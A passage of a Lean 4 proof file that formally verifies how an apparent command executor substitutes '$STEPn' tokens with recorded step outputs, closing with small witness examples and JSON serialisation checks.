      ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y)
      ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: [digitChar d0]) v = _
  rw [replaceF]
  have hlw : leadsWith ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: [digitChar d0])
      ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y) = false := by
    simp [leadsWith, hdd]
  rw [hlw]
  simp only [Bool.false_and, Bool.false_eq_true, if_false]
  have hnomem : ('$' : Char) ∉ ('S' :: 'T' :: 'E' :: 'P' :: [digitChar d]) := by
    intro h
    simp only [List.mem_cons, List.not_mem_nil, or_false] at h
    rcases h with h | h | h | h | h
    · exact absurd h (by decide)
    · exact absurd h (by decide)
    · exact absurd h (by decide)
    · exact absurd h (by decide)
    · exact digitChar_ne_dollar d hd.1 hd.2 h.symm
  have hskip := replaceL_skip ('S' :: 'T' :: 'E' :: 'P' :: [digitChar d0]) v
    ('S' :: 'T' :: 'E' :: 'P' :: [digitChar d]) y hnomem
  rw [show replaceF
      (('S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y).length + 1)
      ('S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y)
      ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: [digitChar d0]) v =
    replaceL (('S' :: 'T' :: 'E' :: 'P' :: [digitChar d]) ++ y)
      ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: [digitChar d0]) v from rfl, hskip]
  rfl

/-! Mixed texts: a substitution source is a sequence of plain segments and
`$STEPn` tokens.  `renderP` produces the text, `substTok` replaces one token
textually, `resolveP` replaces every token with the trimmed output of the
first recorded result carrying its id (the spec's simultaneous reading). -/

def renderP : List (List Char ⊕ Int) → List Char
  | [] => []
  | .inl s :: t => s ++ renderP t
  | .inr d :: t => tokL d ++ renderP t

def substTok (d0 : Int) (v : List Char) :
    List (List Char ⊕ Int) → List (List Char ⊕ Int)
  | [] => []
  | .inl s :: t => .inl s :: substTok d0 v t
  | .inr d :: t => (if d = d0 then .inl v else .inr d) :: substTok d0 v t

def resolveP (rs : List StepResult) : List (List Char ⊕ Int) → List (List Char ⊕ Int)
  | [] => []
  | .inl s :: t => .inl s :: resolveP rs t
  | .inr d :: t =>
      (match rs.find? (fun r => r.step_id == d) with
       | some r => Sum.inl (pyStrip r.output).data
       | none => Sum.inr d) :: resolveP rs t

/-- Well-formedness of one piece: plain segments carry no `$`, token ids are
single-digit (so that no token is a textual prefix of another). -/
def pieceOK : (List Char ⊕ Int) → Bool
  | .inl s => decide (('$' : Char) ∉ s)
  | .inr d => decide (0 ≤ d ∧ d < 10)

theorem replace_renderP (d0 : Int) (hd0 : 0 ≤ d0 ∧ d0 < 10) (v : List Char) :
    ∀ qs : List (List Char ⊕ Int), (∀ q ∈ qs, pieceOK q = true) →
      replaceL (renderP qs) (tokL d0) v = renderP (substTok d0 v qs) := by
  intro qs
  induction qs with
  | nil => intro _; rfl
  | cons q t ih =>
      intro hq
      have hqt : ∀ x ∈ t, pieceOK x = true := fun x hx => hq x (List.mem_cons_of_mem q hx)
      cases q with
      | inl s =>
          have hs : ('$' : Char) ∉ s := by
            have := hq (.inl s) (List.mem_cons_self _ _)
            simpa [pieceOK] using this
          show replaceL (s ++ renderP t) (tokL d0) v = s ++ renderP (substTok d0 v t)
          have htok : tokL d0 = '$' :: ('S' :: 'T' :: 'E' :: 'P' :: (intStr d0).data) := rfl
          rw [htok, replaceL_skip _ v s (renderP t) hs, ← htok, ih hqt]
      | inr d =>
          have hd : 0 ≤ d ∧ d < 10 := by
            have := hq (.inr d) (List.mem_cons_self _ _)
            simpa [pieceOK] using this
          by_cases hdd : d = d0
          · subst hdd
            show replaceL (tokL d ++ renderP t) (tokL d) v =
              renderP ((if d = d then Sum.inl v else Sum.inr d) :: substTok d v t)
            rw [if_pos rfl]
            have htok : tokL d = '$' :: ('S' :: 'T' :: 'E' :: 'P' :: (intStr d).data) := rfl
            show replaceL (tokL d ++ renderP t) (tokL d) v = v ++ renderP (substTok d v t)
            rw [htok, replaceL_hit _ v (renderP t), ← htok, ih hqt]
          · show replaceL (tokL d ++ renderP t) (tokL d0) v =
              renderP ((if d = d0 then Sum.inl v else Sum.inr d) :: substTok d0 v t)
            rw [if_neg hdd]
            show replaceL (tokL d ++ renderP t) (tokL d0) v =
              tokL d ++ renderP (substTok d0 v t)
            rw [replaceL_miss d d0 v (renderP t) hd hd0 hdd, ih hqt]

theorem resolveP_nil : ∀ qs : List (List Char ⊕ Int), resolveP [] qs = qs := by
  intro qs
  induction qs with
  | nil => rfl
  | cons q t ih =>
      cases q with
      | inl s => simp [resolveP, ih]
      | inr d => simp [resolveP, List.find?, ih]

theorem resolveP_cons (r : StepResult) (rs : List StepResult) :
    ∀ qs, resolveP (r :: rs) qs =
      resolveP rs (substTok r.step_id (pyStrip r.output).data qs) := by
  intro qs
  induction qs with
  | nil => rfl
  | cons q t ih =>
      cases q with
      | inl s => simp only [resolveP, substTok, ih]
      | inr d =>
          simp only [resolveP, substTok]
          by_cases hdd : d = r.step_id
          · subst hdd
            rw [if_pos rfl]
            have hfind : List.find? (fun x => x.step_id == r.step_id) (r :: rs) =
                some r := by
              simp [List.find?]
            rw [hfind, ih]
            rfl
          · rw [if_neg hdd]
            have : List.find? (fun x => x.step_id == d) (r :: rs) =
                List.find? (fun x => x.step_id == d) rs := by
              have : (r.step_id == d) = false := by
                simp [hdd]
                exact fun h => hdd h.symm
              simp [List.find?, this]
            rw [this, ih]
            rfl

theorem substTok_pieceOK (d0 : Int) (v : List Char) (hv : ('$' : Char) ∉ v) :
    ∀ qs : List (List Char ⊕ Int), (∀ q ∈ qs, pieceOK q = true) →
      ∀ q ∈ substTok d0 v qs, pieceOK q = true := by
  intro qs
  induction qs with
  | nil => intro _ q hq; cases hq
  | cons p t ih =>
      intro hall q hq
      have hpt : ∀ x ∈ t, pieceOK x = true :=
        fun x hx => hall x (List.mem_cons_of_mem p hx)
      cases p with
      | inl s =>
          rcases List.mem_cons.mp hq with h | h
          · subst h
            exact hall (.inl s) (List.mem_cons_self _ _)
          · exact ih hpt q h
      | inr d =>
          rcases List.mem_cons.mp hq with h | h
          · subst h
            by_cases hdd : d = d0
            · rw [if_pos hdd]
              simpa [pieceOK] using hv
            · rw [if_neg hdd]
              exact hall (.inr d) (List.mem_cons_self _ _)
          · exact ih hpt q h

/-- Success, single-digit id, `$`-free trimmed output. -/
def stepOK (r : StepResult) : Bool :=
  r.success && decide (0 ≤ r.step_id ∧ r.step_id < 10) &&
    decide (('$' : Char) ∉ (pyStrip r.output).data)

theorem foldl_replace_resolve :
    ∀ (rs : List StepResult) (qs : List (List Char ⊕ Int)),
      (∀ r ∈ rs, stepOK r = true) →
      (∀ q ∈ qs, pieceOK q = true) →
      List.foldl (fun res kv => pyReplace res kv.1 kv.2)
        (String.mk (renderP qs))
        (rs.map (fun r => ("$STEP" ++ intStr r.step_id, pyStrip r.output)))
      = String.mk (renderP (resolveP rs qs)) := by
  intro rs
  induction rs with
  | nil =>
      intro qs _ _
      rw [resolveP_nil]
      rfl
  | cons r rest ih =>
      intro qs hrs hqs
      have hr : stepOK r = true := hrs r (List.mem_cons_self _ _)
      have hrest : ∀ x ∈ rest, stepOK x = true :=
        fun x hx => hrs x (List.mem_cons_of_mem r hx)
      simp only [stepOK, Bool.and_eq_true, decide_eq_true_eq] at hr
      obtain ⟨⟨-, hrange⟩, hnodollar⟩ := hr
      simp only [List.map_cons, List.foldl_cons]
      have hkey : ("$STEP" ++ intStr r.step_id).data = tokL r.step_id := by
        rw [sdata_append]
        rfl
      have hrepl : pyReplace (String.mk (renderP qs))
          ("$STEP" ++ intStr r.step_id) (pyStrip r.output) =
          String.mk (renderP (substTok r.step_id (pyStrip r.output).data qs)) := by
        show String.mk (replaceL (renderP qs) ("$STEP" ++ intStr r.step_id).data
          (pyStrip r.output).data) = _
        rw [hkey, replace_renderP r.step_id hrange (pyStrip r.output).data qs hqs]
      rw [hrepl, ih _ hrest
        (substTok_pieceOK r.step_id (pyStrip r.output).data hnodollar qs hqs),
        ← resolveP_cons]

theorem setAssoc_fresh {α β : Type} [DecidableEq α] :
    ∀ (m : List (α × β)) (k : α) (v : β), (∀ kv ∈ m, kv.1 ≠ k) →
      setAssoc m k v = m ++ [(k, v)] := by
  intro m
  induction m with
  | nil => intro k v _; rfl
  | cons kv0 t ih =>
      intro k v h
      have h0 : kv0.1 ≠ k := h kv0 (List.mem_cons_self _ _)
      obtain ⟨k0, v0⟩ := kv0
      show setAssoc ((k0, v0) :: t) k v = _
      rw [setAssoc, if_neg h0, ih k v (fun kv hkv => h kv (List.mem_cons_of_mem _ hkv))]
      rfl

theorem stepKey_inj (a b : Int) (ha : 0 ≤ a ∧ a < 10) (hb : 0 ≤ b ∧ b < 10)
    (h : "$STEP" ++ intStr a = "$STEP" ++ intStr b) : a = b := by
  have hd := congrArg String.data h
  rw [sdata_append, sdata_append] at hd
  have hdig : (intStr a).data = (intStr b).data := by
    exact List.append_cancel_left hd
  rw [intStr_single_digit a ha.1 ha.2, intStr_single_digit b hb.1 hb.2] at hdig
  have : digitChar a = digitChar b := by simpa using hdig
  exact digitChar_inj a b ha hb this

theorem foldRecord_vars :
    ∀ (rs : List StepResult) (ctx0 : ExecutionContext),
      (∀ r ∈ rs, stepOK r = true) →
      (rs.map (fun r => r.step_id)).Nodup →
      (∀ r ∈ rs, ∀ kv ∈ ctx0.vars, kv.1 ≠ "$STEP" ++ intStr r.step_id) →
      (rs.foldl (fun c r => c.record r.step_id r) ctx0).vars =
        ctx0.vars ++ rs.map (fun r => ("$STEP" ++ intStr r.step_id, pyStrip r.output)) := by
  intro rs
  induction rs with
  | nil => intro ctx0 _ _ _; simp
  | cons r rest ih =>
      intro ctx0 hok hnd hfresh
      have hrOK := hok r (List.mem_cons_self _ _)
      simp only [stepOK, Bool.and_eq_true, decide_eq_true_eq] at hrOK
      obtain ⟨⟨hsucc, hrange⟩, -⟩ := hrOK
      have hrec : (ctx0.record r.step_id r).vars =
          ctx0.vars ++ [("$STEP" ++ intStr r.step_id, pyStrip r.output)] := by
        show (if r.success = true then
            setAssoc ctx0.vars ("$STEP" ++ intStr r.step_id) (pyStrip r.output)
          else ctx0.vars) = _
        rw [if_pos hsucc]
        exact setAssoc_fresh _ _ _
          (fun kv hkv => hfresh r (List.mem_cons_self _ _) kv hkv)
      have hndr : (rest.map (fun x => x.step_id)).Nodup := by
        simp only [List.map_cons, List.nodup_cons] at hnd
        exact hnd.2
      have hidnotin : r.step_id ∉ rest.map (fun x => x.step_id) := by
        simp only [List.map_cons, List.nodup_cons] at hnd
        exact hnd.1
      have hfresh' : ∀ x ∈ rest, ∀ kv ∈ (ctx0.record r.step_id r).vars,
          kv.1 ≠ "$STEP" ++ intStr x.step_id := by
        intro x hx kv hkv
        rw [hrec] at hkv
        rcases List.mem_append.mp hkv with hold | hnew
        · exact hfresh x (List.mem_cons_of_mem _ hx) kv hold
        · have hxOK := hok x (List.mem_cons_of_mem _ hx)
          simp only [stepOK, Bool.and_eq_true, decide_eq_true_eq] at hxOK
          obtain ⟨⟨-, hxrange⟩, -⟩ := hxOK
          simp only [List.mem_singleton] at hnew
          subst hnew
          intro hkey
          have := stepKey_inj r.step_id x.step_id hrange hxrange hkey
          exact hidnotin (this ▸ List.mem_map_of_mem (fun y => y.step_id) hx)
      have IH := ih (ctx0.record r.step_id r)
        (fun x hx => hok x (List.mem_cons_of_mem _ hx)) hndr hfresh'
      simp only [List.foldl_cons]
      rw [IH, hrec]
      simp [List.append_assoc]

/-- C5 (amended).  The executor substitutes by iterating the recorded step
variables in recording order with plain textual replacement; when the recorded
step ids are distinct single digits (so no `$STEPn` token is a textual prefix
of another), the segments carry no `$`, and the trimmed outputs carry no `$`,
every occurrence of every token `$STEPn` is replaced by exactly the trimmed
output of the recorded step n.  (With multi-digit ids an earlier-recorded
variable whose token is a textual prefix consumes the token instead — see the
counterexample.) -/
theorem C5_substitution_resolves_tokens
    (rs : List StepResult) (qs : List (List Char ⊕ Int))
    (hok : ∀ r ∈ rs, stepOK r = true)
    (hnd : (rs.map (fun r => r.step_id)).Nodup)
    (hqs : ∀ q ∈ qs, pieceOK q = true) :
    (rs.foldl (fun (c : ExecutionContext) r => c.record r.step_id r)
        (⟨[], []⟩ : ExecutionContext)).substitute
        (String.mk (renderP qs)) =
      String.mk (renderP (resolveP rs qs)) := by
  unfold ExecutionContext.substitute
  rw [foldRecord_vars rs ⟨[], []⟩ hok hnd (by intro r _ kv hkv; cases hkv)]
  simp only [List.nil_append]
  exact foldl_replace_resolve rs qs hok hqs

def c5wRs : List StepResult :=
  [⟨1, "c", "alpha", true, "low", false, none⟩,
   ⟨2, "c", "beta", true, "low", false, none⟩]

def c5wQs : List (List Char ⊕ Int) :=
  [Sum.inl "echo ".data, Sum.inr 1, Sum.inl " ".data, Sum.inr 2]

/-- Witness for the amended C5 at a concrete two-variable context. -/
theorem C5_substitution_resolves_tokens_witness :
    (c5wRs.foldl (fun (c : ExecutionContext) r => c.record r.step_id r)
        (⟨[], []⟩ : ExecutionContext)).substitute
        (String.mk (renderP c5wQs)) = String.mk (renderP (resolveP c5wRs c5wQs))
    ∧ String.mk (renderP c5wQs) = "echo $STEP1 $STEP2"
    ∧ String.mk (renderP (resolveP c5wRs c5wQs)) = "echo alpha beta" :=
  ⟨C5_substitution_resolves_tokens c5wRs c5wQs
    (by
      intro r hr
      simp only [c5wRs, List.mem_cons, List.not_mem_nil, or_false] at hr
      rcases hr with rfl | rfl <;> decide)
    (by decide)
    (by
      intro q hq
      simp only [c5wQs, List.mem_cons, List.not_mem_nil, or_false] at hq
      rcases hq with rfl | rfl | rfl | rfl <;> decide),
   by decide, by decide⟩

end Hermit

namespace Hermit
example : dumps (.jobj (.cons "action" (.jstr "ls") .nil)) =
    "\x7b\"action\": \"ls\"\x7d" := by decide
example : dumps (.jint (-12)) = "-12" := by decide
example : dumps (.jarr (.cons (.jint 1) (.cons (.jbool true) .nil))) = "[1, true]" := by decide
end Hermit
